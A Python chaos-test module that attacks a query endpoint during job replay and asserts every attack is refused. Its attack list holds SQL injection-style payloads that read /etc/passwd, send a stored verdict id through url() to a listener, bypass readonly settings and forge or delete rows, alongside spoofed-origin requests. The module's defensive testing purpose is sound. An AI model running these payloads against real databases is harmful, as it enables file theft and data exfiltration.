"""The attack case, shared by the chaos modules: the query surface attacked while a job streams in.

The attacks the reliability issue reproduced (a file read and a verdict id sent
to a listener through table functions, settings, system tables, several
statements; the endpoint without its token, from a foreign ``Origin`` or
``Host``, with an oversized body; a heavy read beside the inserts), fired
again and again at the running stack's query endpoint while a valid job is
replayed. Each must be refused, the listener must receive nothing, and the
job's stored verdicts must still be exactly ``analyze``'s: reads never hold
back or corrupt writes.
"""

from __future__ import annotations

import http.client
import time
from urllib.parse import urlsplit

from chaos.harness import ChaosStack, Job, check_job, replay_with
from listener import Listener


def attack_sql(port: int) -> list[str]:
    leak = f"concat('http://127.0.0.1:{port}/x?', (SELECT any(verdict_id) FROM eroica.verdicts))"
    return [
        "DESCRIBE TABLE file('/etc/passwd', 'TSVWithNames')",
        "SELECT * FROM file('/etc/passwd', 'TSV', 'l String')",
        f"DESCRIBE TABLE url({leak}, 'CSV', 'a String')",
        f"SELECT * FROM url({leak}, 'CSV', 'a String')",
        "SELECT * FROM system.users",
        "SELECT 1 SETTINGS readonly = 0",
        "SELECT 1; SELECT 2",
        "INSERT INTO eroica.verdicts (verdict_id) VALUES ('forged')",
        "ALTER TABLE eroica.verdicts DELETE WHERE 1",
    ]


def _raw(url: str, path: str, headers: dict[str, str], body: bytes = b"", post: bool = False) -> int:
    u = urlsplit(url)
    conn = http.client.HTTPConnection(u.hostname, u.port, timeout=10)
    try:
        conn.request("POST" if body or post else "GET", path, body=body or None, headers=headers)
        return conn.getresponse().status
    finally:
        conn.close()


def attack_case(stack: ChaosStack, job: Job, broker: str, rounds: int = 3) -> None:
    from eroica.sinks.clickhouse import ReadOnlySQLError
    from eroica.stack.query import stack_token

    url = stack.state()["query_endpoint"]
    token = stack_token(stack.data_dir)
    host = urlsplit(url).netloc
    good = {"Host": host, "Authorization": f"Bearer {token}"}
    lis = Listener()
    refused: dict[str, int] = {}
    failures: list[str] = []

    def attack() -> None:
        client = stack._endpoint()
        for sql in attack_sql(lis.port):
            try:
                client.sql(sql)
                failures.append(f"accepted: {sql}")
            except ReadOnlySQLError:
                refused["sql"] = refused.get("sql", 0) + 1
            except Exception as exc:  # noqa: BLE001 - a sink restarting mid-case: not an acceptance
                refused["unavailable"] = refused.get("unavailable", 0) + 1
                print(f"  attack not answered ({type(exc).__name__}): {sql[:40]}")
        sql = b"SELECT 1"
        for name, headers, want in (
                ("no token", {"Host": host}, 401),
                ("foreign origin", {**good, "Origin": "http://evil.example"}, 403),
                ("foreign host", {**good, "Host": "evil.example"}, 403)):
            status = _raw(url, "/sql", {**headers, "Content-Length": str(len(sql))}, sql)
            if status != want:
                failures.append(f"{name}: {status}, wanted {want}")
            else:
                refused[name] = refused.get(name, 0) + 1
        # an oversized body announced: refused before a byte of it is read
        if _raw(url, "/sql", {**good, "Content-Length": str(1 << 30)}, post=True) != 413:
            failures.append("an oversized body was accepted")
        try:  # a heavy read beside the inserts: bounded by the read limits, never blocking them
            client.sql("SELECT count() FROM numbers(10000000000)")
        except Exception:  # noqa: BLE001 - refused or cut by the limits: either is fine
            refused["heavy read"] = refused.get("heavy read", 0) + 1

    t0 = time.monotonic()
    try:
        replay_with(stack, job, [(0.2 + i * 1.0, attack) for i in range(rounds)])
        result = check_job(stack, job, "attacks on the query surface", broker, t0)
    finally:
        time.sleep(0.3)
        lis.stop()
    assert not failures, failures
    assert lis.connections == 0, "a query reached the listener"
    print(f"  refused: {refused}; {result.line()}")
